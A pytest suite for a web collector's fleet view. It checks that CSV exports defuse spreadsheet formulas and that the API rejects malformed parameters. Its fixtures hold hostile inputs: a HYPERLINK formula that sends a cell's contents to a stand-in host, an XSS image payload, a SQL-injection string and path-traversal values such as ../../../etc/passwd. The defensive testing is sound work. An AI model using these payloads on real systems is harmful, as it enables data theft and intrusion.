"""The fleet view's output is safe whatever agents send, and its input checked: CSV cells a
spreadsheet would evaluate are defused, every /api/ parameter out of range is a 400 with a
message (never a 5xx), and any session id, `.` and `..` included, opens from the page in a
real Chromium, shown literally.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import time
import urllib.parse
from collections.abc import Iterator
from typing import Any

import pytest

from collector.web import export
from tests.conftest import UI_TIMEOUT_MS, Daemon
from tests.test_web import db, get, turn
from tests.test_web_flood import seed

# Session ids, models and users a spreadsheet would run as formulas.
FORMULAS = ("=HYPERLINK(\"http://x.example/?\"&A1)", "+1+2", "-3+4", "@SUM(A1:A9)",
            "\tTAB", "\rCR")
# Session ids the page's links and routes must carry untouched.
ODD_IDS = (".", "..", "a/b", "../../api/overview", "50%", "50%25", "what?x=1", "#frag",
           "a+b c", "ünïcødé-🚀", "<img src=x onerror=alert(1)>", "%2E%2E", "x/./y", "\\")


@pytest.fixture(scope="module")
def odd(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Daemon]:
    """A daemon fed over OTLP with sessions named like paths, queries and markup."""
    daemon = Daemon(tmp_path_factory.mktemp("odd"), "[sessions]\nstale_after_s = 86400000\n")
    daemon.start()
    try:
        now = time.time_ns()
        spans: list[Any] = []
        for i, sid in enumerate(ODD_IDS):
            for k in range(1 + i % 3):
                spans += turn(sid, i % 3, now - (i + 1) * 10**9 + k * 1000,
                              cost=0.01 * (i + 1) + 0.001 * k)
        daemon.export_http(spans)
        deadline = time.monotonic() + 30
        while len(db(daemon, "SELECT id FROM agent_sessions")) < len(ODD_IDS):
            assert time.monotonic() < deadline, "the sessions were never committed"
            time.sleep(0.05)
        yield daemon
    finally:
        daemon.stop()


# -- CSV formulas ----------------------------------------------------------------------------

def test_csv_cells_a_spreadsheet_would_evaluate_are_quoted(tmp_path: Any) -> None:
    daemon = Daemon(tmp_path)
    daemon.start()
    try:
        now = time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime())
        rows = [(f"{f}-{i}", f, now, now, 1, 10, 5, 1.5, f, f, f) for i, f in enumerate(FORMULAS)]
        rows.append(("plain-id", "gpt-5", now, now, 2, 20, 10, 2.5, "agent", "ana", "host"))
        seed(daemon, rows)
        status, _, body = get(daemon.web_url + "/api/sessions.csv?sort=id&order=asc")
        assert status == 200
        table = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
        by_id = {r["id"]: r for r in table}
        assert len(table) == len(rows)
        for i, f in enumerate(FORMULAS):
            row = by_id["'" + f"{f}-{i}"]
            assert row["model"] == row["agent"] == row["user"] == row["host"] == "'" + f
        plain = by_id["plain-id"]
        assert (plain["model"], plain["user"], plain["turns"], plain["cost_usd"]) == (
            "gpt-5", "ana", "2", "0.025")
        # No cell of the file starts like a formula, numbers aside.
        for row in table:
            for name, value in row.items():
                assert not value.startswith(export.FORMULA_STARTS) or is_number(value), (
                    name, value)
    finally:
        daemon.stop()


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_cell_keeps_numbers_and_quotes_formula_text() -> None:
    assert [export.cell(v) for v in (None, 3, -2, 1.5, "ok", "=1", "-x", "@a", "\tb")] == [
        "", 3, -2, 1.5, "ok", "'=1", "'-x", "'@a", "'\tb"]


# -- hostile parameters ----------------------------------------------------------------------

def cursor(value: Any) -> str:
    """A cursor as the API encodes one, around a value it never gave."""
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode()


# Values no parameter accepts: each is a 400 wherever it goes.
ANYWHERE = ("%00", "a%00b")
# Per endpoint: parameter -> values out of its range (each a 400).
OUT_OF_RANGE: dict[str, dict[str, tuple[str, ...]]] = {
    "/api/sessions": {
        "status": ("sleeping", "ACTIVE"),
        "sort": ("colour", "id;drop", "s.id"),
        "order": ("up", "DESC"),
        "limit": ("-1", "0", "501", "18446744073709551617", "1e3", "1_0", "abc", "٣", "0x10",
                  "9" * 400),
        "cursor": ("%%%", "bm90IGpzb24", cursor([2**64, "a"]), cursor([-(2**64), "a"]),
                   cursor([1, "\ud800"]), cursor(["\udfff", "a"]), cursor([True, "a"]),
                   cursor([None, "a"]), cursor({"a": 1, "b": 2}), cursor([1, 2]),
                   cursor([1, "a", 3]), cursor([[1], "a"]), "WzFlNDAwLCAiYSJd",  # [1e400,"a"]
                   base64.urlsafe_b64encode(b"[" * 1000 + b"]" * 1000).decode(),
                   base64.urlsafe_b64encode(b'[NaN, "a"]').decode()),
    },
    "/api/filters/search": {
        "field": ("", "status", "id", "model;"),
        "q": ("",),
        "limit": ("0", "-5", "101", "99999999999999999999999"),
    },
    "/api/session": {"id": ("",)},
    "/api/who/user": {
        "since": ("9999-12-31", "0001-01-01", "2026-13-01", "yesterday", "2026-1-1"),
        "until": ("9999-12-31", "10000-01-01", "2026-02-30"),
        "tz": ("Mars/Olympus", "../../../etc/passwd", "/etc/localtime", "x" * 300, "UTC%00"),
    },
}
# Every endpoint, with parameters it takes and where its valid defaults go.
ENDPOINTS: dict[str, dict[str, str]] = {
    "/api/overview": {},
    "/api/sessions": {},
    "/api/sessions.csv": {},
    "/api/session": {"id": "."},
    "/api/sessions/web-1": {},
    "/api/filters": {},
    "/api/filters/search": {"field": "model", "q": "m"},
    "/api/who/agent": {},
    "/api/who/user": {},
    "/api/who/host": {},
}
TEXT_PARAMS = {"/api/sessions": ("status", "agent", "user", "host", "model", "q", "sort",
                                 "order", "limit", "cursor"),
               "/api/sessions.csv": ("status", "agent", "user", "host", "model", "q", "sort",
                                     "order"),
               "/api/session": ("id",), "/api/filters/search": ("field", "q", "limit"),
               "/api/who/user": ("since", "until", "tz")}
# Values that are in range for a text filter (they match nothing): never a 5xx anywhere.
ODD_VALUES = ("%ED%A0%80", "%FF%FE", "%C0%AF", "..%2F..%2F", "%E2%80%AE", "<script>",
              "'%20OR%201=1--", "%F0%9F%9A%80" * 50, "x" * 2000, "%20", "\\u0000", "%25")


def call(daemon: Daemon, endpoint: str, query: dict[str, str]) -> tuple[int, Any]:
    """GET with values already percent-encoded as given (so that bytes like %ED%A0%80 reach
    the server as sent)."""
    text = "&".join(f"{k}={v}" for k, v in query.items())
    status, headers, body = get(daemon.web_url + endpoint + ("?" + text if text else ""))
    if headers.get("Content-Type", "").startswith("application/json"):
        return status, json.loads(body)
    return status, body


def test_every_endpoint_answers_out_of_range_parameters_with_400(odd: Daemon) -> None:
    def quote(v: str) -> str:
        return v if "%" in v else urllib.parse.quote(v, safe="")

    checked = 0
    for endpoint, params in OUT_OF_RANGE.items():
        for name, values in params.items():
            for value in values:
                query = {**{k: quote(v) for k, v in ENDPOINTS[endpoint].items()},
                         name: quote(value)}
                status, body = call(odd, endpoint, query)
                assert status == 400, (endpoint, name, value, status, body)
                assert isinstance(body, dict) and body["error"], (endpoint, name, value)
                checked += 1
    for endpoint, names in TEXT_PARAMS.items():
        for name in names:
            for value in ANYWHERE:
                query = {**{k: quote(v) for k, v in ENDPOINTS[endpoint].items()}, name: value}
                status, body = call(odd, endpoint, query)
                assert status == 400 and body["error"], (endpoint, name, value, status)
                checked += 1
    # Unknown parameters are ignored; odd but storable values are simply matched: never 5xx.
    for endpoint, defaults in ENDPOINTS.items():
        for name in (*TEXT_PARAMS.get(endpoint, ()), "unknown"):
            for value in ODD_VALUES:
                status, body = call(odd, endpoint, {
                    **{k: quote(v) for k, v in defaults.items()}, name: value})
                assert status < 500, (endpoint, name, value, status, body)
                checked += 1
    # Ids in the path: NUL is a 400, the rest unknown (404) or, as `..`, a session: never 5xx.
    for segment in ("%00", "a%00", "%ED%A0%80", "%FF", "..%2F..", "%2E%2E", "x" * 3000):
        status, _ = call(odd, "/api/sessions/" + segment, {})
        assert status in (200, 400, 404), (segment, status)
        status, _ = call(odd, "/api/who/" + segment, {})
        assert status in (400, 404), (segment, status)
        checked += 2
    assert checked > 400


def test_the_session_parameter_opens_any_id(odd: Daemon) -> None:
    rows = {r[0]: r[1:] for r in db(odd, "SELECT id, turns, cost_cents FROM agent_sessions")}
    assert set(ODD_IDS) <= set(rows)
    for sid in ODD_IDS:
        status, body = call(odd, "/api/session", {"id": urllib.parse.quote(sid, safe="")})
        assert status == 200, (sid, body)
        assert body["session"]["id"] == sid
        assert (body["session"]["turns"], body["session"]["cost_cents"]) == rows[sid]


# -- the page, in Chromium -------------------------------------------------------------------

def test_any_session_opens_from_the_page_and_shows_literally(
        odd: Daemon, page: Any) -> None:
    """Each odd id, clicked in the sessions table, opens its own page with its numbers; the
    markup-like id is text (no image element anywhere), and no console error is raised (the
    `page` fixture asserts that)."""
    from playwright.sync_api import expect

    from collector.report import format_usd

    facts = {r[0]: r[1:] for r in db(odd, "SELECT id, turns, cost_cents FROM agent_sessions")}
    for sid in ODD_IDS:
        page.goto(odd.web_url + "/#/sessions")
        rows = page.locator("[data-testid=sessions-table] tbody tr")
        expect(rows).to_have_count(len(facts), timeout=UI_TIMEOUT_MS)
        ids = [rows.nth(i).get_attribute("data-session") for i in range(rows.count())]
        assert sorted(ids) == sorted(facts)
        link = rows.nth(ids.index(sid)).get_by_test_id("session-link")
        assert link.inner_text() == sid
        link.click()
        shown = page.get_by_test_id("session-id")
        expect(shown).to_have_text(sid, timeout=UI_TIMEOUT_MS)
        turns, cents = facts[sid]
        assert page.locator('[data-fact="turns"]').inner_text() == str(turns)
        assert page.locator('[data-fact="cost (USD)"]').inner_text() == format_usd(cents)
        assert page.locator("img").count() == 0
        # The address, opened afresh (shared, bookmarked), opens the same session.
        fresh = page.context.new_page()
        errors: list[str] = []
        fresh.on("pageerror", lambda e, errors=errors: errors.append(str(e)))
        fresh.on("console", lambda m, errors=errors: errors.append(m.text)
                 if m.type == "error" else None)
        fresh.goto(page.url)
        expect(fresh.get_by_test_id("session-id")).to_have_text(sid, timeout=UI_TIMEOUT_MS)
        assert fresh.locator('[data-fact="turns"]').inner_text() == str(turns)
        fresh.close()
        assert errors == []


def test_who_reports_in_the_zone_asked(odd: Daemon, capsys: pytest.CaptureFixture[str]) -> None:
    from collector import cli

    today = time.strftime("%Y-%m-%d", time.gmtime())
    status, data = call(odd, "/api/who/user", {"tz": "Pacific/Kiritimati", "until": today})
    assert status == 200 and data["timezone"] == "Pacific/Kiritimati"
    assert cli.main(["report", "user", "--config", str(odd.config_path), "--json",
                     "--timezone", "Pacific/Kiritimati", "--until", today]) == 0
    printed = json.loads(capsys.readouterr().out)
    for line in data["lines"]:
        line.pop("cost_text")
    data["totals"].pop("cost_text")
    assert data == printed
